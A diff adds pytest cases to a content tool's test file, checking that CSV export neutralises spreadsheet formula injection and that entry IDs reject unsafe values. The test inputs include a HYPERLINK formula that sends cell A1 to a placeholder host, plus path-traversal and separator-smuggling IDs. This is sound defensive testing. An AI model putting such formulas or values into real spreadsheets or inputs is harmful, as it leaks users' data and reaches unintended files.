@@ -359,3 +359,53 @@ def test_csv_export_round_trips_the_bundled_content(tmp_path):
     assert out.read_bytes().startswith(b"\xef\xbb\xbfid,title,body,")
     assert load_content(out) == entries + tricky
     assert csv_bytes(load_content(out)) == out.read_bytes()
+
+
+# ------------------------------------------------------------ hostile content (#15)
+
+FORMULAS = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"詳しくはこちら\")", "+81-46-223-1511",
+            "-休館日は月曜日", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted", "''", "'"]
+
+
+def test_csv_export_neutralises_formulas_and_reads_back_unchanged(tmp_path):
+    import csv
+    import io
+
+    entries = [Entry(id=f"formula-{n}", title=text.strip() or "題", body=text.strip() + " 本文",
+                     category=text.strip()[:10].strip() or "分類", keywords=(text.strip() or "語",),
+                     phone=text.strip(), hours=text.strip(), lat=-35.44, lon=139.36)
+               for n, text in enumerate(FORMULAS)]
+    data = csv_bytes(entries)
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    cells = [c for row in rows[1:] for c in row]
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+                 and c not in ("-35.44",)]
+    assert not dangerous
+    assert "'=HYPERLINK(" in data.decode("utf-8-sig")
+    path = write_csv(entries, tmp_path / "export.csv")
+    assert load_content(path) == entries  # lossless round trip
+
+
+def test_a_hand_written_leading_apostrophe_is_kept(tmp_path):
+    path = tmp_path / "hand.csv"
+    path.write_text("id,title,body\nquote-1,'80年代の写真展,'ほんもの' と書いた本文\n",
+                    encoding="utf-8")
+    [entry] = load_content(path)
+    assert entry.title == "'80年代の写真展" and entry.body == "'ほんもの' と書いた本文"
+
+
+@pytest.mark.parametrize("bad_id", ["../../etc/x", "<b>x</b>", "a/b", "x;y", "図書館", "-x",
+                                    ".hidden", "a\\b", "x\"y"])
+def test_entry_ids_must_be_letters_digits_and_dashes(tmp_path, bad_id):
+    rows = [GOOD, {**GOOD, "id": bad_id, "title": "二つ目"}]
+    _, problems = validate_content(jsonl(tmp_path / "ids.jsonl", *rows))
+    [problem] = errors(problems)
+    assert "ids.jsonl:2:" in problem
+    assert "letters, digits" in problem
+
+
+def test_good_ids_still_pass(tmp_path):
+    rows = [{**GOOD, "id": i, "title": f"題 {i}"} for i in
+            ("library-hours", "faq-001", "A1", "kouminkan_2", "x")]
+    entries, problems = validate_content(jsonl(tmp_path / "ok.jsonl", *rows))
+    assert not errors(problems) and len(entries) == 5
